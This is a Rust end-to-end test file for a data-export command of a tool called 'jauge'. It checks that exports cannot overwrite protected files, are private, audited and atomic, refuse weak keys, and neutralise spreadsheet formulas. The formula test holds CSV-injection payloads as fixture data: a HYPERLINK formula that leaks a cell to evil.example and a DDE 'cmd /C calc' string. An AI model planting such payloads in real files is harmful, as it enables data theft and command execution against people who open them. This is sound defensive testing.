//! End-to-end: exports that cannot destroy data or leak it. The output can never be the
//! database, its journal, the key or the bank; it is written to a private temporary file and put
//! in place only when complete, never over an existing file unless `--force`; the audit entry is
//! written before the data (with the operating system's account, not `$USER`) and its outcome
//! after; keys too short to be secret are refused; spreadsheet formulas are neutralised; an
//! erased person still counts as one person in aggregates.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

mod common;
use common::TempDir;
use common::fs::Mount;
use common::procs::{assert_clean, cmd, integrity_ok, jauge, text};

/// A database with agents who finished short sessions, in organisation `dgfip`.
fn populate(db: &str, agents: &[&str]) {
    let o = jauge(&["organisation", "create", "dgfip", "--db", db]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    for (k, a) in agents.iter().enumerate() {
        let agent = format!("--agent={a}");
        let o = jauge(&[
            "assess",
            &agent,
            "--organisation",
            "dgfip",
            "--simulate-theta",
            "0",
            "--seed",
            &k.to_string(),
            "--competences",
            "1.1,3.4",
            "--db",
            db,
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    }
}

/// A key of 32 random bytes (from the test's own generator, written as hex).
fn good_key(path: &Path) {
    let bytes: [u8; 32] = rand::random();
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    std::fs::write(path, format!("{hex}\n")).unwrap();
}

/// `jauge export` in CSV; the databases here are filled by simulated agents, which exports leave
/// out unless asked: `--include-simulated`.
fn export(db: &str, out: &Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec![
        "export",
        "--format",
        "csv",
        "--out",
        out.to_str().unwrap(),
        "--db",
        db,
        "--include-simulated",
    ];
    args.extend_from_slice(extra);
    jauge(&args)
}

fn audit(db: &str) -> Vec<(String, String, Option<String>)> {
    let c = rusqlite::Connection::open(db).unwrap();
    let has_outcome: bool = c
        .query_row(
            "SELECT count(*) FROM pragma_table_info('audit_log') WHERE name = 'outcome'",
            [],
            |r| r.get::<_, i64>(0),
        )
        .unwrap()
        > 0;
    let sql = if has_outcome {
        "SELECT command, detail, outcome FROM audit_log ORDER BY id"
    } else {
        "SELECT command, detail, NULL FROM audit_log ORDER BY id"
    };
    let mut st = c.prepare(sql).unwrap();
    st.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    v.sort();
    v
}

#[test]
fn the_output_can_never_be_the_database_its_journal_the_key_or_the_bank() {
    let dir = TempDir::new("protected");
    let db = dir.db();
    populate(&db, &["alice@example.fr", "bruno@example.fr"]);
    let bank = dir.0.join("bank");
    std::fs::create_dir_all(bank.join("1.1")).unwrap();
    std::fs::copy("tests/bank-examples/framework.toml", bank.join("framework.toml")).unwrap();
    for e in std::fs::read_dir("tests/bank-examples/1.1").unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), bank.join("1.1").join(e.file_name())).unwrap();
    }
    let key = dir.0.join("key");
    good_key(&key);
    let snapshot = |p: &Path| std::fs::read(p).unwrap();
    let (db_bytes, key_bytes, framework) = (
        snapshot(Path::new(&db)),
        snapshot(&key),
        snapshot(&bank.join("framework.toml")),
    );
    std::os::unix::fs::symlink(&db, dir.0.join("link.db")).unwrap();
    std::fs::hard_link(&db, dir.0.join("hard.db")).unwrap();
    let relative = format!(
        "{}/../{}/jauge.db",
        dir.0.display(),
        dir.0.file_name().unwrap().to_str().unwrap()
    );
    let outs: Vec<PathBuf> = vec![
        PathBuf::from(&db),
        PathBuf::from(format!("{db}-wal")),
        PathBuf::from(format!("{db}-shm")),
        PathBuf::from(relative),
        dir.0.join("link.db"),
        dir.0.join("hard.db"),
        key.clone(),
        bank.clone(),
        bank.join("framework.toml"),
        bank.join("1.1").join("new.csv"),
    ];
    for out in &outs {
        let o = export(
            &db,
            out,
            &[
                "--pseudonymise-key-file",
                key.to_str().unwrap(),
                "--bank",
                bank.to_str().unwrap(),
            ],
        );
        assert_clean(&o, &format!("--out {}", out.display()));
        assert_eq!(
            o.status.code(),
            Some(2),
            "--out {}: {}",
            out.display(),
            text(&o.stderr)
        );
        assert!(text(&o.stderr).contains("refused"), "{}", text(&o.stderr));
        assert_eq!(
            snapshot(Path::new(&db)),
            db_bytes,
            "--out {}: the database changed",
            out.display()
        );
        assert_eq!(snapshot(&key), key_bytes);
        assert_eq!(snapshot(&bank.join("framework.toml")), framework);
        assert!(!bank.join("1.1").join("new.csv").exists());
    }
    assert!(integrity_ok(Path::new(&db)));
    // nothing was even opened: no audit entry either
    assert!(audit(&db).iter().all(|(c, ..)| c != "export"));
}

#[test]
fn an_existing_file_is_replaced_only_with_force_and_exports_are_private() {
    let dir = TempDir::new("force");
    let db = dir.db();
    populate(&db, &["alice@example.fr"]);
    let out = dir.0.join("profiles.csv");
    std::fs::write(&out, "precious work of an analyst\n").unwrap();
    let o = export(&db, &out, &[]);
    assert_clean(&o, "an existing file");
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("--force"), "{}", text(&o.stderr));
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        "precious work of an analyst\n"
    );
    let o = export(&db, &out, &["--force"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(std::fs::read_to_string(&out).unwrap().starts_with("agent,"));
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(
        mode, 0o600,
        "an export of personal data is readable by its owner only"
    );
    let fresh = dir.0.join("fresh.jsonl");
    let o = jauge(&[
        "export",
        "--format",
        "jsonl",
        "--out",
        fresh.to_str().unwrap(),
        "--db",
        &db,
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let mode = std::fs::metadata(&fresh).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let names: Vec<String> = files_in(&dir.0)
        .iter()
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        ["fresh.jsonl", "jauge.db", "profiles.csv"],
        "no temporary file left"
    );
}

/// A device, a pipe or a socket is never replaced by an export, even with `--force` (the export
/// is put in place by a rename, which replaced `/dev/null` itself with a file of personal data,
/// mode 0600, breaking every program on the machine). Shown with a named pipe, directly and
/// through a symbolic link, so that no device of the machine is at stake.
#[test]
fn a_device_or_a_pipe_is_never_replaced_by_an_export() {
    use std::os::unix::fs::FileTypeExt;
    let dir = TempDir::new("special");
    let db = dir.db();
    populate(&db, &["alice@example.fr"]);
    let fifo = dir.0.join("pipe");
    let o = std::process::Command::new("mkfifo").arg(&fifo).output().unwrap();
    assert!(o.status.success(), "mkfifo");
    let link = dir.0.join("link.csv");
    std::os::unix::fs::symlink(&fifo, &link).unwrap();
    for out in [&fifo, &link] {
        for extra in [&["--force"][..], &[]] {
            let o = export(&db, out, extra);
            assert_clean(&o, "a pipe");
            assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
            assert!(
                text(&o.stderr).contains("not a regular file"),
                "{}",
                text(&o.stderr)
            );
        }
    }
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
    assert!(
        audit(&db).iter().all(|(c, ..)| c != "export"),
        "refused before anything"
    );
}

#[test]
fn the_audit_entry_is_written_before_the_data_with_the_operating_system_account() {
    let dir = TempDir::new("audit");
    let db = dir.db();
    populate(&db, &["alice@example.fr"]);
    let out = dir.0.join("p.csv");
    // `$USER` says anything; the audit names the account the process runs as
    let o = cmd(&[
        "export",
        "--format",
        "csv",
        "--out",
        out.to_str().unwrap(),
        "--db",
        &db,
    ])
    .env("USER", "mallory")
    .env("USERNAME", "mallory")
    .output()
    .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let log = audit(&db);
    let (_, detail, outcome) = log.iter().rfind(|(c, ..)| c == "export").unwrap();
    assert!(!detail.contains("mallory"), "{detail}");
    assert_eq!(
        outcome.as_deref().map(|o| o.starts_with("completed")),
        Some(true),
        "{outcome:?}"
    );
    let c = rusqlite::Connection::open(&db).unwrap();
    let (uid, name): (i64, String) = c
        .query_row(
            "SELECT uid, user_name FROM audit_log WHERE command = 'export' ORDER BY id DESC LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    let me = std::process::Command::new("id").arg("-u").output().unwrap();
    assert_eq!(uid.to_string(), text(&me.stdout).trim());
    let me = std::process::Command::new("id").arg("-un").output().unwrap();
    assert_eq!(name, text(&me.stdout).trim());
    drop(c);

    // when the audit cannot be written, nothing is exported
    let c = rusqlite::Connection::open(&db).unwrap();
    c.execute_batch(
        "CREATE TRIGGER no_audit BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'the audit log is sealed'); END;",
    )
    .unwrap();
    drop(c);
    let refused = dir.0.join("refused.csv");
    let o = export(&db, &refused, &[]);
    assert_clean(&o, "an export without its audit");
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("audit"), "{}", text(&o.stderr));
    assert!(!refused.exists(), "no data leaves without its audit entry");
}

#[test]
fn a_failed_export_leaves_no_partial_file_and_its_failure_is_audited() {
    let Some(m) = Mount::new("export-full", "256k") else {
        return;
    };
    let dir = TempDir::new("full");
    let db = dir.db();
    populate(&db, &["alice@example.fr", "bruno@example.fr", "chloe@example.fr"]);
    // room for a few kilobytes only
    let filler = m.fill();
    let f = std::fs::OpenOptions::new().write(true).open(&filler).unwrap();
    let len = f.metadata().unwrap().len();
    f.set_len(len - 4096).unwrap();
    drop(f);
    let out = m.join("responses.csv");
    let o = export(&db, &out, &["--responses"]);
    assert_clean(&o, "exporting to a full file system");
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("No space left") || text(&o.stderr).contains("no space left"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(files_in(&m.dir), vec![filler], "no partial file of personal data");
    let log = audit(&db);
    let (_, _, outcome) = log
        .iter()
        .rfind(|(c, ..)| c == "export")
        .expect("the attempt is audited");
    assert!(
        outcome.as_deref().is_some_and(|o| o.starts_with("failed")),
        "{outcome:?}"
    );
}

/// A database large enough for an export to take a while: `n` agents with a profile on 16
/// competences, inserted by SQL beside the schema the binary made.
fn big(db: &str, n: usize) {
    let o = jauge(&["organisation", "create", "big", "--db", db]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let c = rusqlite::Connection::open(db).unwrap();
    c.execute_batch(&format!(
        "BEGIN;
         CREATE TEMP TABLE k AS WITH RECURSIVE k(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM k WHERE n < {n}) SELECT n FROM k;
         CREATE TEMP TABLE comp AS WITH RECURSIVE c(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM c WHERE i < 15)
             SELECT (i / 4 + 1) || '.' || (i % 4 + 1) AS code FROM c;
         INSERT INTO agent (id, organisation_id, created_at) SELECT n, 1, 0 FROM k;
         INSERT INTO agent_identity (agent_id, external_id) SELECT n, 'agent-' || n || '@example.fr' FROM k;
         INSERT INTO session (id, uid, agent_id, organisation_id, plan, state, seed, engine_version, bank_version,
                              scoring_version, lang, started_at, finished_at)
             SELECT n, printf('%032x', n), n, 1, '{{}}', 'finished', 1, 'e', 'b', '2', 'fr', 1700000000000000, 1700000000000000 FROM k;
         INSERT INTO profile_snapshot (session_id, competence, scoring_version, theta, se, pix, pix_low, pix_high,
                                       level, assessed_at)
             SELECT n, code, '2', 0.1, 0.3, 20, 15, 25, 2, 1700000000000000 FROM k, comp;
         COMMIT;"
    ))
    .unwrap();
}

#[test]
fn a_killed_export_leaves_no_file_but_its_audit_entry() {
    let dir = TempDir::new("killed");
    let db = dir.db();
    let t0 = Instant::now();
    big(&db, 20_000);
    eprintln!("generated in {:?}", t0.elapsed());
    let out_dir = dir.0.join("out");
    std::fs::create_dir_all(&out_dir).unwrap();
    let out = out_dir.join("profiles.csv");
    let mut child = cmd(&[
        "export",
        "--format",
        "csv",
        "--out",
        out.to_str().unwrap(),
        "--all-sessions",
        "--db",
        &db,
    ])
    .spawn()
    .unwrap();
    // kill it once it is under way: its file exists, or its audit entry says it started
    let start = Instant::now();
    let started = || {
        out.exists()
            || audit(&db)
                .iter()
                .any(|(c, _, o)| c == "export" && o.as_deref() == Some("started"))
    };
    while !started() {
        assert!(
            child.try_wait().unwrap().is_none(),
            "the export ended before it could be killed"
        );
        assert!(start.elapsed() < Duration::from_secs(60));
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        child.try_wait().unwrap().is_none(),
        "the export ended before it could be killed"
    );
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    eprintln!("killed {:?} after it started", start.elapsed());
    assert_eq!(
        files_in(&out_dir),
        Vec::<PathBuf>::new(),
        "no partial file of personal data"
    );
    let log = audit(&db);
    let (_, detail, outcome) = log
        .iter()
        .rfind(|(c, ..)| c == "export")
        .expect("audited before it started");
    assert_eq!(outcome.as_deref(), Some("started"), "{detail}");
    assert!(integrity_ok(Path::new(&db)));
}

#[test]
fn pseudonymisation_keys_must_hold_32_bytes_of_random_material() {
    let dir = TempDir::new("keys");
    let db = dir.db();
    populate(&db, &["alice@example.fr"]);
    let out = dir.0.join("p.csv");
    let weak: Vec<(&str, Vec<u8>)> = vec![
        ("one byte", b"k".to_vec()),
        ("a passphrase", b"a long secret of the ministry\n".to_vec()),
        ("one repeated character", vec![b'a'; 64]),
        ("31 random bytes", rand::random::<[u8; 31]>().to_vec()),
        ("a short hex text", b"0123456789abcdef0123456789abcdef\n".to_vec()),
    ];
    for (what, bytes) in weak {
        let key = dir.0.join("weak.key");
        std::fs::write(&key, &bytes).unwrap();
        let o = export(&db, &out, &["--pseudonymise-key-file", key.to_str().unwrap()]);
        assert_clean(&o, what);
        assert_eq!(o.status.code(), Some(2), "{what}: {}", text(&o.stderr));
        let err = text(&o.stderr);
        assert!(
            err.contains("32 bytes") && err.contains("jauge key create"),
            "{what}: {err}"
        );
        assert!(!out.exists(), "{what}: nothing exported");
    }
    // a key made by `jauge key create` is private, random and accepted
    let key = dir.0.join("ministry.key");
    let o = jauge(&["key", "create", key.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let content = std::fs::read_to_string(&key).unwrap();
    assert_eq!(content.trim_end().len(), 64, "{content}");
    assert!(content.trim_end().bytes().all(|b| b.is_ascii_hexdigit()));
    let o = export(&db, &out, &["--pseudonymise-key-file", key.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(!std::fs::read_to_string(&out).unwrap().contains("alice"));
    // a key is never overwritten: exports made with it could no longer be linked
    let o = jauge(&["key", "create", key.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(std::fs::read_to_string(&key).unwrap(), content);
    // 32 raw random bytes are a key too
    let raw = dir.0.join("raw.key");
    std::fs::write(&raw, rand::random::<[u8; 32]>()).unwrap();
    let o = export(
        &db,
        &out,
        &["--pseudonymise-key-file", raw.to_str().unwrap(), "--force"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let dir = TempDir::new("formulas");
    let db = dir.db();
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+33 1 23 45 67 89",
        "-2+3@example.fr",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    populate(&db, &evil);
    let out = dir.0.join("p.csv");
    let o = export(&db, &out, &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let mut rdr = csv::Reader::from_path(&out).unwrap();
    let agents: Vec<String> = rdr.records().map(|r| r.unwrap()[0].to_string()).collect();
    assert_eq!(agents.len(), evil.len());
    for a in &agents {
        assert!(a.starts_with('\''), "not neutralised: {a}");
        assert!(evil.contains(&&a[1..]), "the text is kept after the quote: {a}");
    }
    // numbers stay numbers (a negative θ is not text)
    let o = export(&db, &out, &["--force", "--responses"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // JSON Lines are not read by spreadsheets: left exactly as stored
    let jl = dir.0.join("p.jsonl");
    let o = jauge(&[
        "export",
        "--format",
        "jsonl",
        "--out",
        jl.to_str().unwrap(),
        "--db",
        &db,
        "--include-simulated",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        std::fs::read_to_string(&jl)
            .unwrap()
            .contains("\"agent\":\"=HYPERLINK")
    );
}

#[test]
fn after_an_erasure_one_persons_sessions_still_count_as_one_person() {
    let dir = TempDir::new("aggregate");
    let db = dir.db();
    let o = jauge(&["organisation", "create", "tiny", "--db", &db]);
    assert_eq!(o.status.code(), Some(0));
    // one person, four finished sessions
    for seed in 0..4 {
        let o = jauge(&[
            "assess",
            "--agent",
            "alone@example.fr",
            "--organisation",
            "tiny",
            "--simulate-theta",
            "0",
            "--seed",
            &seed.to_string(),
            "--competences",
            "1.1",
            "--db",
            &db,
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    }
    let agg = |name: &str| {
        let out = dir.0.join(name);
        let o = export(&db, &out, &["--aggregate", "organisation", "--min-group", "2"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
        std::fs::read_to_string(&out).unwrap()
    };
    assert_eq!(agg("before.csv").lines().count(), 1, "one person: suppressed");
    let o = jauge(&["agent", "erase", "alone@example.fr", "--db", &db]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let after = agg("after.csv");
    assert_eq!(
        after.lines().count(),
        1,
        "still one person after the erasure, still suppressed:\n{after}"
    );
}
